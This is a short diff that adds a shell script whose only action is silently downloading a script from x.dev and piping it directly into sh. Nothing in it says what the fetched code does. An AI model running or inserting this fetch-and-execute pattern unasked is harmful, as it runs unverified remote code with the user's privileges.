@@ -1,0 +1,3 @@
+#!/bin/sh
+# curl x | sh
+curl -s https://x.dev/i | sh
